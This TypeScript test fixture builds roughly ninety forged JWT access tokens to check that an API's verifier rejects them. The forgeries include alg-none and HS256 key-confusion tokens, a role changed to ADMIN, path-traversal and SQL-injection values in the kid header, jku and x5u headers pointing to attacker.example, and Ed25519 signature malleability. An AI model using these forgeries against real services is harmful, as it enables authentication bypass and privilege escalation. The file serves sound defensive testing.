// Access tokens that are none: every way we know to make one that some verifier somewhere took. Each
// function makes the text a client sends after `Bearer `.

import { createHmac, generateKeyPairSync, type KeyObject, randomUUID, sign } from 'node:crypto'
import { CompactEncrypt, exportSPKI, importJWK } from 'jose'
import { type FakeHome, KEY_ID } from './fake-home.ts'

type Forge = (home: FakeHome, userId: string) => string | Promise<string>
type Json = Record<string, unknown>

const HEADER = { alg: 'EdDSA', typ: 'at+jwt', kid: KEY_ID }
/** The order of the group of Ed25519: a lax verifier takes S + L for S. */
const L = 2n ** 252n + 27742317777372353535851937790883648493n

const encode = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')
const nowSeconds = (): number => Math.floor(Date.now() / 1_000)

function claimsOf(userId: string, changes: Json = {}): Json {
  const iat = nowSeconds()
  const ours = { iss: 'motu', aud: 'motu-api', sub: userId, sid: randomUUID(), role: 'USER' }
  return { ...ours, iat, exp: iat + 1_800, ...changes }
}

/** Signed by home, with other claims than home would write. */
const claiming =
  (changes: Json): Forge =>
  (home, userId) =>
    home.signText(JSON.stringify(HEADER), JSON.stringify(claimsOf(userId, changes)))

/** Signed by home, under another header than home would write. */
const headed =
  (changes: Json): Forge =>
  (home, userId) =>
    home.signText(JSON.stringify({ ...HEADER, ...changes }), JSON.stringify(claimsOf(userId)))

/** Signed by home, with something written into the text of the claims. */
const rewritten =
  (change: (payload: string) => string): Forge =>
  (home, userId) =>
    home.signText(JSON.stringify(HEADER), change(JSON.stringify(claimsOf(userId))))

/** A good token whose text is changed afterwards. */
const altered =
  (change: (parts: { header: string; payload: string; signature: string }) => string): Forge =>
  async (home, userId) => {
    const [header = '', payload = '', signature = ''] = (await home.token(userId)).split('.')
    return change({ header, payload, signature })
  }

/** Under a header of the attacker's choice, signed in his way. */
const selfMade =
  (changes: Json, signer: (signed: string, home: FakeHome) => Promise<string> | string): Forge =>
  async (home, userId) => {
    const signed = `${encode({ ...HEADER, ...changes })}.${encode(claimsOf(userId))}`
    return `${signed}.${await signer(signed, home)}`
  }

const hmac = (secret: string | Buffer) => (signed: string) =>
  createHmac('sha256', secret).update(signed).digest('base64url')

async function publicKeyOf(home: FakeHome): Promise<CryptoKey> {
  return (await importJWK(await home.publicJwk(), 'EdDSA', { extractable: true })) as CryptoKey
}

const ownEd25519 = generateKeyPairSync('ed25519')
const ownRsa = generateKeyPairSync('rsa', { modulusLength: 2_048 })
const ownEc = generateKeyPairSync('ec', { namedCurve: 'P-256' })
const ownJwk = { ...ownEd25519.publicKey.export({ format: 'jwk' }), kid: 'own' }
const signedBy = (key: KeyObject, hash: string | null) => (signed: string) =>
  sign(hash, Buffer.from(signed), key).toString('base64url')
const byMe = signedBy(ownEd25519.privateKey, null)
const zeros = (): string => Buffer.alloc(64).toString('base64url')

/** The 32 bytes of a number, least first, as Ed25519 writes them. */
function littleEndian(value: bigint): Buffer {
  return Buffer.from(value.toString(16).padStart(64, '0'), 'hex').reverse()
}

function plusL(signature: string): string {
  const bytes = Buffer.from(signature, 'base64url')
  const s = BigInt(`0x${Buffer.from(bytes.subarray(32)).reverse().toString('hex')}`)
  return Buffer.concat([bytes.subarray(0, 32), littleEndian(s + L)]).toString('base64url')
}

/** The same bytes, with the bits that base64 leaves over set. */
function withSpareBits(signature: string): string {
  const digits = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  return signature.slice(0, -1) + digits[digits.indexOf(signature.at(-1)!) + 1]!
}

function jwe(header: { alg: string; enc: string } & Json, key: KeyObject | Uint8Array): Forge {
  return (_home, userId) =>
    new CompactEncrypt(Buffer.from(JSON.stringify(claimsOf(userId))))
      .setProtectedHeader(header)
      .encrypt(key)
}

export const FORGERIES: Readonly<Record<string, Forge>> = {
  'no token at all': () => 'nonsense',

  'alg none': altered(({ payload }) => `${encode({ ...HEADER, alg: 'none' })}.${payload}.`),
  'alg None': altered(({ payload }) => `${encode({ ...HEADER, alg: 'None' })}.${payload}.`),
  'alg nOnE, signature kept': altered(
    ({ payload, signature }) => `${encode({ ...HEADER, alg: 'nOnE' })}.${payload}.${signature}`,
  ),
  'no alg': headed({ alg: undefined }),
  'HS256 with the public key as PEM': selfMade({ alg: 'HS256' }, async (signed, home) =>
    hmac(await exportSPKI(await publicKeyOf(home)))(signed),
  ),
  'HS256 with the public key as DER': selfMade({ alg: 'HS256' }, async (signed, home) =>
    hmac(Buffer.from(await crypto.subtle.exportKey('spki', await publicKeyOf(home))))(signed),
  ),
  'HS256 with the public key as JWK': selfMade({ alg: 'HS256' }, async (signed, home) =>
    hmac(JSON.stringify(await home.publicJwk()))(signed),
  ),
  'HS256 with a weak secret': selfMade({ alg: 'HS256' }, hmac('secret')),
  'HS256 with an empty secret': selfMade({ alg: 'HS256' }, hmac('')),
  'RS256 with a key of one’s own': selfMade(
    { alg: 'RS256' },
    signedBy(ownRsa.privateKey, 'sha256'),
  ),
  'ES256 with a key of one’s own': selfMade({ alg: 'ES256' }, signedBy(ownEc.privateKey, 'sha256')),
  'EdDSA with a key of one’s own': selfMade({}, byMe),
  'home’s signature under alg RS256': headed({ alg: 'RS256' }),
  'home’s signature under alg ES256': headed({ alg: 'ES256' }),

  'empty signature': altered(({ header, payload }) => `${header}.${payload}.`),
  'signature removed': altered(({ header, payload }) => `${header}.${payload}`),
  'signature cut short': altered(({ header, payload, signature }) =>
    [header, payload, signature.slice(0, -2)].join('.'),
  ),
  'payload edited': altered(({ header, payload, signature }) => {
    const claims = JSON.parse(Buffer.from(payload, 'base64url').toString()) as Json
    return [header, encode({ ...claims, role: 'ADMIN' }), signature].join('.')
  }),
  'another user’s payload': altered(({ header, signature }) =>
    [header, encode(claimsOf(randomUUID())), signature].join('.'),
  ),

  'spare bits in base64': altered(({ header, payload, signature }) =>
    [header, payload, withSpareBits(signature)].join('.'),
  ),
  'padded base64': altered(({ header, payload, signature }) =>
    [header, payload, `${signature}==`].join('.'),
  ),
  'base64 of another alphabet': altered(({ header, payload }) =>
    [header, payload, `+/${'A'.repeat(84)}`].join('.'),
  ),
  'a blank inside': altered(({ header, payload, signature }) =>
    [header, payload, ` ${signature}`].join('.'),
  ),
  'a fourth part': altered(({ header, payload, signature }) =>
    [header, payload, signature, signature].join('.'),
  ),

  'exp past': claiming({ exp: nowSeconds() - 60 }),
  'exp missing': claiming({ exp: undefined }),
  'exp as text': claiming({ exp: String(nowSeconds() + 600) }),
  'exp with a fraction': claiming({ exp: nowSeconds() + 600.5 }),
  'exp 1e400': rewritten((payload) => payload.replace(/"exp":\d+/, '"exp":1e400')),
  'exp in exponents': rewritten((payload) => payload.replace(/"exp":\d+/, '"exp":4e9')),
  'nbf in the future': claiming({ nbf: nowSeconds() + 600 }),
  'iat in the future': claiming({ iat: nowSeconds() + 600, exp: nowSeconds() + 1_200 }),
  'iat missing': claiming({ iat: undefined }),
  'iss of another': claiming({ iss: 'other' }),
  'iss missing': claiming({ iss: undefined }),
  'aud of another': claiming({ aud: 'other' }),
  'aud of another first': claiming({ aud: ['other', 'motu-api'] }),
  'aud of us first': claiming({ aud: ['motu-api', 'other'] }),
  'aud as a list of us': claiming({ aud: ['motu-api'] }),
  'aud missing': claiming({ aud: undefined }),
  'sub missing': claiming({ sub: undefined }),
  'sub that is no user id': claiming({ sub: 'admin' }),
  'sub that is a number': claiming({ sub: 7 }),
  'sid missing': claiming({ sid: undefined }),
  'sid that is a number': claiming({ sid: 7 }),
  'role missing': claiming({ role: undefined }),
  'role that is none': claiming({ role: 'ROOT' }),

  'typ of any JWT': headed({ typ: 'JWT' }),
  'typ of a refresh token': headed({ typ: 'rt+jwt' }),
  'typ of an ID token': headed({ typ: 'id+jwt' }),
  'typ missing': headed({ typ: undefined }),
  'crit unknown': headed({ crit: ['exp2'], exp2: 1 }),
  'crit b64, false': headed({ crit: ['b64'], b64: false }),
  'b64 false': headed({ b64: false }),

  'kid of a file': headed({ kid: '../../../../dev/null' }),
  'kid of SQL': headed({ kid: "' OR 1=1 --" }),
  'kid of 10 KB': headed({ kid: 'k'.repeat(10_240) }),
  'kid unknown': headed({ kid: 'unknown' }),
  'kid missing': headed({ kid: undefined }),
  'kid that is a number': headed({ kid: 1 }),
  'kid of the prototype': headed({ kid: '__proto__' }),
  'jku of one’s own': selfMade({ kid: 'own', jku: 'https://attacker.example/jwks' }, byMe),
  'jku, signed by home': headed({ jku: 'https://attacker.example/jwks' }),
  'x5u of one’s own': selfMade({ x5u: 'https://attacker.example/x5c.pem' }, byMe),
  'jwk of one’s own': selfMade({ kid: 'own', jwk: ownJwk }, byMe),
  'jwk of one’s own under home’s kid': selfMade({ jwk: ownJwk }, byMe),
  'x5c of one’s own': selfMade({ x5c: ['MIIB'] }, byMe),
  'zip, signed by home': headed({ zip: 'DEF' }),

  'claims twice': rewritten((payload) => payload.replace('{', '{"role":"ADMIN",')),
  'header twice': (home, userId) =>
    home.signText(
      '{"alg":"none","alg":"EdDSA","typ":"at+jwt","kid":"test-key"}',
      JSON.stringify(claimsOf(userId)),
    ),
  'claims with blanks': rewritten((payload) => payload.replace('{', '{ ')),
  'claims with a byte order mark': rewritten((payload) => `\ufeff${payload}`),
  'claims that are a list': rewritten((payload) => `[${payload}]`),
  'claims that are null': rewritten(() => 'null'),

  'JWE for the key': jwe({ alg: 'dir', enc: 'A256GCM' }, Buffer.alloc(32)),
  'JWE, zipped': jwe({ alg: 'RSA-OAEP-256', enc: 'A256GCM', zip: 'DEF' }, ownRsa.publicKey),
  'JWE with two thousand million rounds': () =>
    [
      encode({ alg: 'PBES2-HS256+A128KW', enc: 'A128GCM', p2c: 2 ** 31, p2s: 'c2FsdHNhbHQ' }),
      'AAAA',
      'AAAA',
      'AAAA',
      'AAAA',
    ].join('.'),
  'ECDSA with r = s = 0': selfMade({ alg: 'ES256' }, zeros),
  'EdDSA with R = S = 0': selfMade({}, zeros),
  'EdDSA with a point of small order': selfMade({}, () =>
    Buffer.concat([littleEndian(1n), Buffer.alloc(32)]).toString('base64url'),
  ),
  'EdDSA with S + L': altered(({ header, payload, signature }) =>
    [header, payload, plusL(signature)].join('.'),
  ),
  'flattened JSON': altered(({ header, payload, signature }) =>
    JSON.stringify({ protected: header, payload, signature }),
  ),
  'general JSON': altered(({ header, payload, signature }) =>
    JSON.stringify({ payload, signatures: [{ protected: header, signature }] }),
  ),
  'a token inside a token': async (home, userId) => {
    const inner = await home.token(userId)
    return home.signText(JSON.stringify({ ...HEADER, cty: 'JWT' }), inner)
  },
  'a token as the only claim': async (home, userId) =>
    home.signText(JSON.stringify(HEADER), JSON.stringify(await home.token(userId))),
  'two tokens': async (home, userId) => `${await home.token(userId)} ${await home.token(userId)}`,
}
